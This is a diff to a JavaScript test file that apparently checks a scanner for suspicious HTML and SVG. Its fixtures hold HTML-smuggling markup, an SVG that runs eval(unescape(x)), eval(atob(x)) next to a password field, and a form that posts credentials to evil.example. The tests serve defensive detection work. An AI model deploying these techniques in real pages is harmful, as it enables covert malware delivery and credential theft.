@@ -183,12 +183,18 @@ describe('pages', () => {
   const smuggling =
     '<html><body onload="go()"><script>function go(){var b=new Blob([atob(x)]);a.href=URL.createObjectURL(b);a.download="x.zip"}</script>';
   test.each([
-    ['smuggling', 'a.html', smuggling, ['script 1', 'onload', 'atob', 'Blob', 'createObjectURL', 'download']],
+    ['smuggling', 'a.html', smuggling, ['script 1', 'atob', 'Blob', 'createObjectURL', 'download', 'onload']],
     [
       'a drawing',
       'a.svg',
       '<svg onload="eval(unescape(x))"><a xlink:href="javascript:x()"/></svg>',
-      ['onload', 'javascript: link 1', 'unescape', 'eval'],
+      ['javascript: link 1', 'unescape', 'eval', 'onload'],
+    ],
+    [
+      'handlers of any name and number, which hide nothing',
+      'a.html',
+      `<body ${Array.from({ length: 22 }, (_, at) => `on${at}="x"`).join(' ')}><input type=password><script>eval(atob(x))</script>`,
+      ['script 1', 'password field 1', 'atob', 'eval', ...Array.from({ length: 16 }, (_, at) => `on${at}`)],
     ],
     ['a log-in', 'a.htm', '<form action="https://evil.example/p"><input type="password"></form>', ['password field 1']],
     [
